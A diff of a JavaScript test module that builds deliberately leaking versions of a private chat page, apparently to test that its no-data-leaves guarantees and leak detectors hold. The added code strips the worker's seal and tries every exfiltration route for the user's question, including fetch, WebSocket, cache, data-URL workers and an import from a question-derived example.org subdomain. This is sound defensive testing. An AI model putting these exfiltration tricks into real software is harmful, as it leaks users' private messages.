@@ -1,9 +1,11 @@
 // Builds of the page that leak on purpose, each in another way. Whoever says that nothing leaves has to catch these.
 
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { WEB } from "./server.js";
+
+const UNSEALED = "sprat/unsealed.js";
 
 /** A copy of the built page that can be altered, and put right again. */
 export class LeakingBuild {
@@ -23,10 +25,22 @@ export class LeakingBuild {
     writeFileSync(at, code.replace(before, () => after));
   }
 
+  /**
+   * Has the engine run in a worker without a seal: one that the server's policy does not know, with all its functions.
+   */
+  unseal() {
+    const at = path.join(this.folder, UNSEALED);
+    if (existsSync(at)) return;
+    cpSync(path.join(this.folder, "sprat/worker.js"), at);
+    this.edit(UNSEALED, "seal(self)", "Promise.resolve(false)");
+    this.edit("sprat/port.js", "./worker.js", "./unsealed.js");
+  }
+
   /** The page as it was built. */
   restore() {
     for (const [at, code] of this.#real) writeFileSync(at, code);
     this.#real.clear();
+    rmSync(path.join(this.folder, UNSEALED), { force: true });
   }
 
   remove() {
@@ -35,12 +49,15 @@ export class LeakingBuild {
 }
 
 const CALL = "const { signal, ...rest } = options;";
-const ANSWER = "return await current.runtime.chat(ask, signal, tell);";
+const ANSWER = "return await current.runtime.chat(ask, line, signal, tell);";
 
 /** Runs code in the page whenever a question is asked; `text` is the question. */
 const onQuestion = (code) => (build) => build.edit("sprat/sprat.js", CALL, `${CALL}\n{ const text = messages.at(-1).content; ${code} }`);
-/** The same in the worker, where `ask` is the whole call as JSON. */
-const inWorker = (code) => (build) => build.edit("sprat/worker.js", ANSWER, `{ ${code} }\n${ANSWER}`);
+/** The same in a worker of the engine that is not sealed, where `ask` is the whole call as JSON. */
+const inWorker = (code) => (build) => {
+  build.unseal();
+  build.edit(UNSEALED, ANSWER, `{ ${code} }\n${ANSWER}`);
+};
 
 /** No search knows this one. */
 const CIPHER = "const secret = Array.from(text, (c) => (c.codePointAt(0) ^ 0x15).toString(36)).reverse().join('-');";
@@ -149,9 +166,11 @@ export const LEAKS = {
       document.head.append(link);`),
     where: /^host$/,
   },
-  "a guard taken away": {
-    build: (build) =>
-      build.edit("sprat/sprat.js", "options: rest })", `options: { ...rest, private: false, mode: "cloud" } })`),
+  "both guards taken away": {
+    build(build) {
+      lie(build);
+      build.edit("sprat/sprat.js", NO_LINE, "");
+    },
     alone: true,
     where: /POST \/v1\/chat\/completions, body/,
   },
@@ -198,6 +217,43 @@ export const LEAKS = {
     build: (build) =>
       build.edit("sprat/sprat.js", "yield event;", `if (event.receipt) event.receipt.reason = messages.at(-1).content; yield event;`),
     where: /a receipt or an error/,
+  },
+};
+
+/** What keeps a private question without a way out. */
+const NO_LINE = "rest.private === true || ";
+
+/** The engine is told that what is private is open, and for the cloud. @param {LeakingBuild} build */
+function lie(build) {
+  build.edit("sprat/sprat.js", "options: rest })", `options: { ...rest, private: false, mode: "cloud" } })`);
+}
+
+/** All that a worker's own code can try, each with the question in it. */
+const TRIES = `
+  const said = encodeURIComponent(JSON.parse(ask).messages.at(-1).content);
+  const tries = {
+    fetch: () => fetch("/v1/tried?fetch=" + said),
+    XMLHttpRequest() {
+      const request = new XMLHttpRequest();
+      request.open("POST", "/v1/tried", false);
+      request.send(said);
+    },
+    EventSource: () => new EventSource("/v1/tried?events=" + said),
+    WebSocket: () => new WebSocket("ws://" + location.host + "/v1/tried?socket=" + said),
+    cache: async () => (await caches.open("tried")).add("/v1/tried?cache=" + said),
+    Worker: () => new Worker("data:text/javascript,fetch('" + location.origin + "/v1/tried?worker=" + said + "')"),
+    module: () => import("data:text/javascript,export default await fetch('" + location.origin + "/v1/tried?module=" + said + "')"),
+    another: () => import("https://" + said.slice(0, 20).toLowerCase().replace(/[^a-z0-9]/g, "x") + ".example.org/x.js"),
+  };
+  for (const way of Object.values(tries)) try { await way(); } catch {}`;
+
+/** Builds that would leak, if something else did not stand in the way. Nothing may be found. */
+export const STOPPED = {
+  "an engine that has been lied to, without a line": lie,
+  /** It may use every function there is, and the policy still forbids it to connect. */
+  "an engine that tries every way out": (build) => {
+    build.edit("sprat/seal.js", "for (const name of WAYS_OUT) remove(scope, name);", "");
+    build.edit("sprat/worker.js", ANSWER, `{ ${TRIES} }\n${ANSWER}`);
   },
 };
 
